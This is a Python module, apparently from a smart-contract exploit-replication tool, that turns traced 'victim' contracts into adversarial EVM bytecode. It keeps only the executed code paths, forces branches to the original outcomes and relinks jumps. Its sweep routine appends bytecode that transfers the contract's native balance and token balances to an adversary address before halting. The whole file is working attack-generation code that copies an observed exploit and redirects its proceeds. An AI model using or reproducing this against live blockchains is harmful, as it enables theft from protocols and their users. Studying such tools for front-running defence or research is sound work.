"""Rewrite replaced victim contracts into adversarial runtime code.

Each synthesized contract keeps only the static basic blocks its victim executed,
pins tainted branches to the victim's outcome, points hard-coded addresses at the
other synthesized contracts, and (for beneficiaries) sweeps collected assets to
the adversary before its final halt. Jump targets are re-linked after layout.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from fractions import Fraction
from typing import Iterable

from .evm.hashing import selector
from .evm.opcodes import (
    BY_NAME,
    JUMP,
    JUMPDEST,
    JUMPI,
    TERMINATORS,
    Instruction,
    is_push,
    iter_instructions,
    push_width,
    static_block_starts,
)
from .evm.state import create_address, hex_address
from .patch import PatchPlan
from .profit import NATIVE, Asset, ProfitReport
from .taint import TaintReport
from .trace import DCFG, CodeConstant

STOP = 0x00
INVALID = 0xFE
POP = BY_NAME["POP"]
SWAP1 = BY_NAME["SWAP1"]
_HALTS_OK = (STOP, BY_NAME["RETURN"], BY_NAME["SELFDESTRUCT"])


class SynthesisError(Exception):
    pass


class BiBranchBlock(SynthesisError):
    pass


class ComputedJumpUnresolved(SynthesisError):
    pass


class ZeroLengthVictim(ValueError):
    pass


def size_reduction(victim_code: bytes, synth_code: bytes) -> Fraction:
    """Percentage of the victim's size saved; negative when the copy grew."""
    if not victim_code:
        raise ZeroLengthVictim("victim code is empty")
    return Fraction(len(victim_code) - len(synth_code), len(victim_code)) * 100


@dataclass
class SynthesizedContract:
    victim: int
    address: int
    runtime_code: bytes
    victim_code: bytes
    storage_init: dict[int, int] = field(default_factory=dict)
    address_rewrites: dict[int, int] = field(default_factory=dict)  # victim address -> synthesized address
    sweep_assets: list[Asset] = field(default_factory=list)
    offset_map: dict[int, int] = field(default_factory=dict)  # victim pc -> synthesized pc
    sweep_range: tuple[int, int] | None = None
    pinned: dict[int, bool] = field(default_factory=dict)  # victim JUMPI pc -> forced outcome
    jump_pushes: dict[int, int] = field(default_factory=dict)  # synthesized PUSH pc -> target pc

    @property
    def size_reduction_pct(self) -> Fraction:
        return size_reduction(self.victim_code, self.runtime_code)

    def reverse_offsets(self) -> dict[int, int]:
        return {new: old for old, new in self.offset_map.items()}

    def to_json(self) -> dict:
        return {
            "victimAddress": hex_address(self.victim),
            "address": hex_address(self.address),
            "runtimeCode": "0x" + self.runtime_code.hex(),
            "storageInit": {f"0x{k:064x}": f"0x{v:064x}" for k, v in sorted(self.storage_init.items())},
            "addressRewrites": {hex_address(k): hex_address(v) for k, v in sorted(self.address_rewrites.items())},
            "sweepAssets": ["native" if a is None else hex_address(a) for a in self.sweep_assets],
            "sizeReductionPct": float(self.size_reduction_pct),
            "pinned": {f"0x{pc:x}": v for pc, v in sorted(self.pinned.items())},
        }


# ---------------------------------------------------------------- linker

@dataclass
class _Item:
    op: int
    orig: int | None = None  # victim pc this byte stands for
    imm: int | None = None  # fixed PUSH immediate
    target: int | None = None  # victim jump destination to resolve
    label: str | None = None  # label to resolve
    width: int = 0
    defines: str | None = None  # label defined at this item

    def size(self) -> int:
        return 1 + self.width


class _Linker:
    """Lays out items, resolving jump targets to new offsets; widths only grow, so it converges."""

    def __init__(self, items: list[_Item], target_ok):
        self.items = items
        self.target_ok = target_ok

    def link(self) -> tuple[bytes, dict[int, int], dict[str, int], dict[int, int]]:
        while True:
            offsets, labels, pos = [], {}, 0
            for it in self.items:
                offsets.append(pos)
                if it.defines:
                    labels[it.defines] = pos
                pos += it.size()
            by_orig = {it.orig: off for it, off in zip(self.items, offsets)
                       if it.orig is not None and it.op == JUMPDEST}
            grew = False
            values = []
            for it in self.items:
                v = it.imm
                if it.label is not None:
                    v = labels[it.label]
                elif it.target is not None:
                    v = by_orig[it.target] if self.target_ok(it.target) and it.target in by_orig else labels["trap"]
                if v is not None:
                    need = max(1, (v.bit_length() + 7) // 8)
                    if need > it.width:
                        it.width = need
                        it.op = 0x5F + need
                        grew = True
                values.append(v)
            if not grew:
                break
        out = bytearray()
        offset_map: dict[int, int] = {}
        jump_pushes: dict[int, int] = {}
        for it, off, v in zip(self.items, offsets, values):
            if it.orig is not None and it.orig not in offset_map:
                offset_map[it.orig] = off
            out.append(it.op)
            if it.width:
                out += v.to_bytes(it.width, "big")
                if it.target is not None or it.label is not None:
                    jump_pushes[off] = v
        return bytes(out), offset_map, labels, jump_pushes


def _push(value: int, width: int = 0, **kw) -> _Item:
    w = max(width, 1, (value.bit_length() + 7) // 8)
    return _Item(0x5F + w, imm=value, width=w, **kw)


def _ops(*names: str) -> list[_Item]:
    return [_Item(BY_NAME[n]) for n in names]


# ---------------------------------------------------------------- sweep

def sweep_items(assets: Iterable[Asset], adversary: int, replay_op: int) -> list[_Item]:
    """Send every listed asset balance to ``adversary``, then halt like the victim did.

    Scratch memory starts at MSIZE so return data already in memory is untouched,
    and the stack is left as found for the replayed halt.
    """
    items = [_Item(JUMPDEST, defines="sweep")]
    for asset in assets:
        if asset is NATIVE:
            items += [_push(0), _push(0), _push(0), _push(0)] + _ops("SELFBALANCE")
            items += [_push(adversary, 20)] + _ops("GAS", "CALL", "POP")
            continue
        bal_sel = selector("balanceOf(address)")
        xfer_sel = selector("transfer(address,uint256)")
        items += _ops("MSIZE")                                           # [b]
        items += [_push(bal_sel, 4), _push(0xE0)] + _ops("SHL", "DUP2", "MSTORE")
        items += _ops("ADDRESS", "DUP2") + [_push(4)] + _ops("ADD", "MSTORE")
        items += [_push(32)] + _ops("DUP2") + [_push(36)] + _ops("DUP4")
        items += [_push(asset, 20)] + _ops("GAS", "STATICCALL", "POP")  # [b], balance at mem[b]
        items += _ops("DUP1", "MLOAD")                                   # [b, bal]
        items += [_push(xfer_sel, 4), _push(0xE0)] + _ops("SHL", "DUP3", "MSTORE")
        items += [_push(adversary, 20)] + _ops("DUP3") + [_push(4)] + _ops("ADD", "MSTORE")
        items += _ops("DUP2") + [_push(36)] + _ops("ADD", "MSTORE")     # [b]
        items += [_push(0), _push(0), _push(68)] + _ops("DUP4") + [_push(0), _push(asset, 20)]
        items += _ops("GAS", "CALL", "POP", "POP")                       # []
    items.append(_Item(replay_op))
    return items


# ---------------------------------------------------------------- per contract

def _static_blocks(code: bytes) -> list[list[Instruction]]:
    starts = static_block_starts(code)
    blocks: list[list[Instruction]] = []
    for ins in iter_instructions(code):
        if ins.pc in starts or not blocks:
            blocks.append([])
        blocks[-1].append(ins)
    return blocks


def _jump_destinations(dcfg: DCFG, contract: int) -> dict[int, set[int]]:
    """Victim JUMP/JUMPI pc -> destinations it actually jumped to."""
    out: dict[int, set[int]] = {}
    for f in dcfg.frames:
        if f.code_address != contract:
            continue
        for i, (pc, op) in enumerate(zip(f.pcs, f.ops)):
            if op == JUMP and i + 1 < len(f.pcs):
                out.setdefault(pc, set()).add(f.pcs[i + 1])
    for r in dcfg.jumpi_records:
        if r.contract == contract:
            out.setdefault(r.pc, set()).add(r.destination)
    return out


def _jump_target_pushes(dcfg: DCFG, contract: int, code: bytes, kept_pcs: set[int]) -> set[int]:
    """PUSH pcs whose immediates are jump destinations."""
    pushes: set[int] = set()
    dests = _jump_destinations(dcfg, contract)
    listing = [ins for ins in iter_instructions(code) if ins.pc in kept_pcs]
    for (c, jpc), provs in dcfg.jump_sources.items():
        if c != contract:
            continue
        unresolved = False
        for p in provs:
            if isinstance(p, CodeConstant) and p.contract == contract and is_push(code[p.pc]):
                pushes.add(p.pc)
            else:
                unresolved = True
        if unresolved:
            wanted = dests.get(jpc, set())
            found = {ins.pc for ins in listing if is_push(ins.op) and ins.imm in wanted}
            if wanted and not found:
                raise ComputedJumpUnresolved(
                    f"{hex_address(contract)}:0x{jpc:x} jumps to a computed target with no PUSH source")
            pushes |= found
    return pushes


def _final_halt(dcfg: DCFG, contract: int) -> int | None:
    f = dcfg.last_frame_of(contract)
    return f.pcs[-1] if f else None


def synthesize_contract(victim: int, dcfg: DCFG, taint: TaintReport, adversary: int,
                        addresses: dict[int, int], sweep: list[Asset]) -> SynthesizedContract:
    code = dcfg.code_of(victim)
    executed = dcfg.executed_pcs(victim)
    if not executed:
        raise SynthesisError(f"{hex_address(victim)} never ran during the victim transaction")

    bi = dcfg.bi_branch()
    pinned: dict[int, bool] = {}
    for tb in taint.tainted_blocks:
        if tb.block.contract == victim:
            if (victim, tb.jumpi_pc) in bi:
                raise BiBranchBlock(f"{hex_address(victim)}:0x{tb.jumpi_pc:x} taken both ways by the victim")
            pinned[tb.jumpi_pc] = tb.victim_condition

    blocks = [b for b in _static_blocks(code) if any(ins.pc in executed for ins in b)]
    kept_pcs = {ins.pc for b in blocks for ins in b}
    kept_starts = {b[0].pc for b in blocks}
    jump_pushes = _jump_target_pushes(dcfg, victim, code, kept_pcs)

    rewrites: dict[int, int] = {}
    for e in dcfg.call_edges:
        p = e.target_provenance
        if isinstance(p, CodeConstant) and p.contract == victim and e.callee in addresses:
            rewrites[p.pc] = addresses[e.callee]

    halt_pc = _final_halt(dcfg, victim) if sweep else None
    if sweep and halt_pc is None:
        raise SynthesisError(f"{hex_address(victim)} has no successful frame to sweep from")
    replay_op = STOP
    if halt_pc is not None and halt_pc < len(code):
        if code[halt_pc] not in _HALTS_OK:
            raise SynthesisError(f"{hex_address(victim)} last halts with 0x{code[halt_pc]:02x}")
        replay_op = code[halt_pc]

    items: list[_Item] = []
    for bi_, block in enumerate(blocks):
        for ins in block:
            if ins.pc == halt_pc:
                items += [_Item(0x61, orig=ins.pc, label="sweep", width=2), _Item(JUMP)]
            elif ins.op == JUMPI and ins.pc in pinned:
                if pinned[ins.pc]:
                    items += [_Item(SWAP1, orig=ins.pc), _Item(POP), _Item(JUMP)]
                else:
                    items += [_Item(POP, orig=ins.pc), _Item(POP)]
            elif is_push(ins.op) and ins.pc in jump_pushes:
                items.append(_Item(ins.op, orig=ins.pc, target=ins.imm, width=push_width(ins.op)))
            elif is_push(ins.op) and ins.pc in rewrites:
                items.append(_push(rewrites[ins.pc], max(20, push_width(ins.op)), orig=ins.pc))
            elif is_push(ins.op):
                items.append(_Item(ins.op, orig=ins.pc, imm=ins.imm, width=push_width(ins.op)))
            else:
                items.append(_Item(ins.op, orig=ins.pc))
        last = block[-1]
        falls = last.op not in TERMINATORS or (last.op == JUMPI and not pinned.get(last.pc, False))
        if last.pc == halt_pc:
            falls = False
        nxt = last.next_pc
        following = blocks[bi_ + 1][0].pc if bi_ + 1 < len(blocks) else None
        if falls and nxt != following:
            if nxt >= len(code):
                if halt_pc == nxt:
                    items += [_Item(0x61, orig=nxt, label="sweep", width=2), _Item(JUMP)]
                else:
                    items.append(_Item(STOP, orig=nxt))
            else:
                items.append(_Item(INVALID))  # unexecuted fall-through

    items += [_Item(JUMPDEST, defines="trap"), _Item(INVALID)]
    sweep_start = None
    if sweep:
        sweep_start = len(items)
        items += sweep_items(sweep, adversary, replay_op)

    runtime, offset_map, labels, linked_jumps = _Linker(items, lambda t: t in kept_starts).link()
    sweep_range = (labels["sweep"], len(runtime)) if sweep_start is not None else None

    storage_init = {}
    for (addr, slot), value in sorted(dcfg.storage_reads.items()):
        if addr == victim and value:
            storage_init[slot] = addresses.get(value, value)

    return SynthesizedContract(
        victim=victim, address=addresses[victim], runtime_code=runtime, victim_code=code,
        storage_init=storage_init, address_rewrites={v: a for v, a in addresses.items() if v != victim},
        sweep_assets=list(sweep), offset_map=offset_map, sweep_range=sweep_range, pinned=pinned,
        jump_pushes=linked_jumps,
    )


def synthesized_addresses(plan: PatchPlan, adversary: int, next_nonce: int) -> dict[int, int]:
    return {r.victim: create_address(adversary, next_nonce + i) for i, r in enumerate(plan.replace)}


def synthesize(plan: PatchPlan, dcfg: DCFG, taint: TaintReport, adversary: int, next_nonce: int,
               profit: ProfitReport | None = None) -> list[SynthesizedContract]:
    """One adversarial contract per replaced victim, in deploy order."""
    if plan.abort:
        raise SynthesisError(f"plan aborted: {plan.abort}")
    addresses = synthesized_addresses(plan, adversary, next_nonce)
    out = []
    for r in plan.replace:
        sweep = profit.assets_gained(r.victim) if profit is not None else []
        out.append(synthesize_contract(r.victim, dcfg, taint, adversary, addresses, sweep))
    return out


# ---------------------------------------------------------------- deployment

def init_code(runtime: bytes, storage: dict[int, int] | None = None) -> bytes:
    """Constructor that writes ``storage`` and returns ``runtime``."""
    body = bytearray()
    for slot, value in sorted((storage or {}).items()):
        for v in (value, slot):
            w = max(1, (v.bit_length() + 7) // 8)
            body += bytes([0x5F + w]) + v.to_bytes(w, "big")
        body.append(BY_NAME["SSTORE"])
    n = len(runtime)
    # PUSH4 n PUSH4 off PUSH1 0 CODECOPY PUSH4 n PUSH1 0 RETURN = 21 bytes
    off = len(body) + 21
    body += bytes([0x63]) + n.to_bytes(4, "big") + bytes([0x63]) + off.to_bytes(4, "big")
    body += bytes([0x60, 0x00, BY_NAME["CODECOPY"]])
    body += bytes([0x63]) + n.to_bytes(4, "big") + bytes([0x60, 0x00, BY_NAME["RETURN"]])
    return bytes(body) + runtime


__all__ = [
    "BiBranchBlock", "ComputedJumpUnresolved", "SynthesisError", "SynthesizedContract",
    "ZeroLengthVictim", "init_code", "size_reduction", "synthesize", "synthesize_contract",
    "synthesized_addresses", "sweep_items",
]
